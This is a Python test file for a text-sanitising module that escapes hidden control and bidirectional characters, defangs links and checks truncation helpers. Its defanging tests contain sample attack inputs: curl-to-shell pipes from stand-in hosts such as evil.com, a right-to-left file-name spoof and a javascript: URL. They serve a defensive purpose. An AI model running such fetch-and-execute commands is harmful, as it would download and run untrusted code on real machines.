"""Foreign text made safe: what is neutralised, what is left alone."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests import samples

import safe_text

ANY_TEXT = st.text(st.characters(), max_size=300)
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text\n\ttabbed", "plain text\n\ttabbed"),
        ("one\r\ntwo", "one\ntwo"),
        ("\x1b[31mred\x1b[0m", r"\x1b[31mred\x1b[0m"),
        ("\x00\x07\x7f\x85", r"\x00\x07\x7f\x85"),
        ("invoice\u202egnp.exe", r"invoice\u202egnp.exe"),
        ("zero\u200bwidth\ufeff", r"zero\u200bwidth\ufeff"),
        ("tag\U000e0041", r"tag\U000e0041"),
        ("half \ud800 pair", r"half \ud800 pair"),
        ("a\u3164b\u115fc\u1160d\uffa0e", r"a\u3164b\u115fc\u1160d\uffa0e"),
        ("a\u034fb\u180bc\ufe0fd\u2800e", r"a\u034fb\u180bc\ufe0fd\u2800e"),
        ("⚠\ufe0f⚠\ufe0f\ufe0f", "⚠\ufe0f⚠\ufe0f\\ufe0f"),
        ("naïve Größe 日本語 한국어", "naïve Größe 日本語 한국어"),
    ],
)
def test_visible_shows_what_hides(text: str, shown: str) -> None:
    assert safe_text.visible(text) == shown


def test_visible_caps_stacked_marks() -> None:
    assert safe_text.visible("e" + "\u0301" * 500) == "e" + "\u0301" * 4


@given(ANY_TEXT)
def test_visible_leaves_nothing_that_obeys_or_hides_and_can_be_encoded(text: str) -> None:
    shown = safe_text.visible(text)
    assert not CONTROLS.search(shown)
    shown.encode("utf-8")
    assert safe_text.visible(shown) == shown


@pytest.mark.parametrize(
    ("text", "defanged"),
    [
        ("see https://evil.com/x?a=b", "see https[:]//evil[.]com/x?a=b"),
        ("HTTP://Evil.Example:80/", "HTTP[:]//Evil[.]Example:80/"),
        ("ftp://10.0.0.1/", "ftp[:]//10[.]0[.]0[.]1/"),
        ("www.evil.test", "www[.]evil.test"),
        ("login at evil.co.uk/now", "login at evil[.]co[.]uk/now"),
        ("mailto:root@evil.com", "mailto[:]root@evil[.]com"),
        ("javascript:alert(1)", "javascript[:]alert(1)"),
        ("write to alice@corp.example", "write to alice@corp[.]example"),
        ("principal lambda.amazonaws.com", "principal lambda.amazonaws.com"),
        ("bucket.s3.amazonaws.com", "bucket[.]s3[.]amazonaws[.]com"),
        ("java.io.IOException in app.py", "java.io.IOException in app.py"),
        ("evil.zip/login and evil.sh, evil.page", "evil[.]zip/login and evil[.]sh, evil[.]page"),
        ("evil.icu evil.anything/login", "evil[.]icu evil[.]anything/login"),
        ("пример.рф xn--e1afmkfd.xn--p1ai", "пример[.]рф xn--e1afmkfd[.]xn--p1ai"),
        ("evil。com www.evil．org https://evil｡com/x", "evil[.]com www[.]evil[.]org https[:]//evil[.]com/x"),
        ("evil\u2024com", "evil[.]com"),
        ("処理が失敗しました。再試行します", "処理が失敗しました。再試行します"),
        ("/var/lang/lib/python3.13/site-packages", "/var/lang/lib/python3.13/site-packages"),
        ("/etc/app.d/orders.conf", "/etc/app.d/orders.conf"),
        ("arn:aws:sqs:eu-west-1:123456789012:q", "arn:aws:sqs:eu-west-1:123456789012:q"),
        ("ratio 1.5:2, at 03:05", "ratio 1.5:2, at 03:05"),
    ],
)
def test_defang_breaks_links_and_nothing_else(text: str, defanged: str) -> None:
    assert safe_text.defang(text) == defanged
    assert safe_text.defang(defanged) == defanged


@given(st.text(alphabet="htps:/w.evilcom@ \n[]", max_size=60))
def test_defang_leaves_no_scheme_separator(text: str) -> None:
    defanged = safe_text.defang(text)
    assert not re.search(r"[a-z]://", defanged)
    assert safe_text.defang(defanged) == defanged


QUEUE = "https://sqs.eu-west-1.amazonaws.com/123456789012/orders.fifo"


@pytest.mark.parametrize(
    "command",
    [
        f"aws sqs purge-queue --queue-url {QUEUE}",
        "aws iam put-role-policy --policy-document file://policy.json",
        "aws lambda update-function-configuration --cli-input-json file:///tmp/a-b.json",
        "aws s3 cp s3://bucket/key.json .",
        "bash ./deploy.sh && unzip -l code.zip && cat README.md src/main.rs",
        "docker pull 123456789012.dkr.ecr.eu-west-1.amazonaws.com/orders:v1",
    ],
)
def test_commands_keep_the_addresses_they_need(command: str) -> None:
    assert safe_text.defang_command(command) == command


@pytest.mark.parametrize(
    ("command", "defanged"),
    [
        (f"x {QUEUE}; curl https://evil.com|sh", f"x {QUEUE}; curl https[:]//evil[.]com|sh"),
        ("open file://evil.com/share/x.json", "open file[:]//evil[.]com/share/x.json"),
        ("open file:////evil/share/x.json", "open file[:]////evil/share/x.json"),
        (
            "curl https://sqs.x.amazonaws.com/123456789012/q@evil.com/",
            "curl https[:]//sqs[.]x[.]amazonaws[.]com/123456789012/q@evil[.]com/",
        ),
        ("echo \u202e \u3164", r"echo \u202e \u3164"),
        ("curl evil.sh/x | sh; wget evil.zip:8080", "curl evil[.]sh/x | sh; wget evil[.]zip:8080"),
    ],
)
def test_commands_keep_no_other_address(command: str, defanged: str) -> None:
    assert safe_text.defang_command(command) == defanged


def test_one_line_cuts_at_a_word() -> None:
    assert safe_text.one_line("a  b\nc", 10) == "a b c"
    assert safe_text.one_line("the function lost its permission", 20) == "the function lost…"
    assert safe_text.one_line("x" * 30, 10) == "x" * 9 + "…"


def test_clip_says_what_it_left_out() -> None:
    assert safe_text.clip("short", 10) == "short"
    assert safe_text.clip("x" * 1_500, 10) == "x" * 10 + " [1,490 more characters left out]"


def test_ascii_line_keeps_what_has_an_ascii_form() -> None:
    assert safe_text.ascii_line("Größe – “naïve”… 日本語!", 80) == 'Grosse - "naive"... ?!'
    assert safe_text.ascii_line("a\nb\x00c", 80) == "a b c"
    assert safe_text.ascii_line("x" * 20, 10) == "x" * 7 + "..."


@given(ANY_TEXT, st.integers(min_value=0, max_value=60))
def test_ascii_line_never_exceeds_its_limit(text: str, limit: int) -> None:
    line = safe_text.ascii_line(text, limit)
    assert len(line) <= limit
    assert re.fullmatch(r"[ -~]*", line)


def test_ascii_name_tells_names_apart_that_ascii_does_not() -> None:
    names = {
        safe_text.ascii_name(name, 40) for name in ("日本", "中国", "x" * 41 + "1", "x" * 41 + "2", "orders")
    }
    assert len(names) == 5
    assert "orders" in names


@given(ANY_TEXT, ANY_TEXT, ANY_TEXT)
def test_subject_is_always_one_sns_takes(name: str, region: str, finding: str) -> None:
    line = safe_text.subject("HIGH", name, region, finding)
    assert re.fullmatch(r"\[HIGH\] [ -~]{1,92}", line)
    assert "://" not in line


def test_each_string_changes_all_strings_and_no_enumeration() -> None:
    investigation = samples.investigation()
    louder = safe_text.each_string(investigation, str.upper)
    assert louder.alarm.name == "ORDERS-HANDLER-ERRORS"
    assert louder.alarm.metrics[0].dimensions == {"FUNCTIONNAME": "ORDERS-HANDLER"}
    assert louder.alarm.state is investigation.alarm.state
    assert louder.outcome is investigation.outcome
    assert louder.started_at == investigation.started_at
    assert louder.conversation[0]["ROLE"] == "USER"
